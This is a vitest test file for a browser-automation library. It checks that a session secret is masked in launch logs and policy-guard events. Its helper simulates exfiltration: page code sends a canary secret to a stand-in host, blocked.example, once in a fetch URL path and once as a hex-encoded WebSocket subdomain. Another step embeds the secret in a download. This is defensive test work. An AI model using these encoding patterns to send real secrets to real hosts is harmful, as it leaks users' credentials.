import { once } from "node:events";
import { mkdtemp, rm } from "node:fs/promises";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createCallContext } from "@surehand/kernel";
import { afterAll, beforeAll, expect, it, vi } from "vitest";
import type { PolicyEvent } from "../policy/index.ts";
import { guardPage } from "../policy/guard-page.ts";
import { createPageSession } from "../session/create-page-session.ts";
import type { BrowserHandle } from "./browser-handle.ts";
import { launchBrowser } from "./launch-browser.ts";

const SECRET = "canary-51c0d7aa93";
const HEX = Buffer.from(SECRET).toString("hex");
const server = createServer(
  (_request, response) => void response.setHeader("content-type", "text/html").end("<p>Page"),
);
const logged: string[] = [];
const note = (message: string, fields?: unknown): void => void logged.push(`${message} ${JSON.stringify(fields)}`);
const log = { debug: note, info: note, warn: note, error: note };

let folder: string;
let origin: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "surehand-masked-log-"));
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const address = server.address();
  origin = `http://127.0.0.1:${typeof address === "object" ? address?.port : 0}`;
});
afterAll(async () => {
  server.closeAllConnections();
  server.close();
  await rm(folder, { recursive: true });
});

async function repeatSecret({ page }: Pick<BrowserHandle, "page">): Promise<void> {
  await page.evaluate(`fetch("http://blocked.example/${SECRET}").catch(() => 0);
    new WebSocket("ws://${HEX}.blocked.example/"); 0`);
}

function expectMasked(events: readonly PolicyEvent[]): void {
  expect(events.length).toBeGreaterThanOrEqual(2);
  const reported = JSON.stringify([events, logged]).toLowerCase();
  expect(reported).toContain("blocked.example");
  expect(reported).not.toContain(SECRET);
  expect(reported).not.toContain(HEX);
}

it("the log of a launch and the events of its policy have no secret of a session", async () => {
  using call = createCallContext({ log });
  const policy = { allowedDomains: [new URL(origin).host] };
  await using browser = await launchBrowser({ policy, downloadsPath: folder }, call);
  await using session = await createPageSession(browser.page, {
    secrets: [{ name: "token", value: SECRET, origins: [origin] }],
  });
  await session.page.goto(origin);
  await repeatSecret(browser);
  await session.page.evaluate(`Object.assign(document.createElement("a"),
    { download: "${SECRET}.txt", href: "data:text/plain,${SECRET}" }).click()`);
  await vi.waitFor(() => expect(logged.join("\n")).toContain("could not save a download"), 5000);
  await vi.waitFor(() => expectMasked(browser.policy?.events ?? []), 5000);
});

it("the log of a guarded page and the events of its policy have no secret of a session", async () => {
  await using browser = await launchBrowser();
  await using guarded = await guardPage(
    browser.page,
    { blockedDomains: ["*.blocked.example", "blocked.example"] },
    { log },
  );
  await using session = await createPageSession(browser.page, {
    secrets: [{ name: "token", value: SECRET, origins: [origin] }],
  });
  await session.page.goto(origin);
  await repeatSecret(browser);
  await vi.waitFor(() => expectMasked(guarded.events), 5000);
});
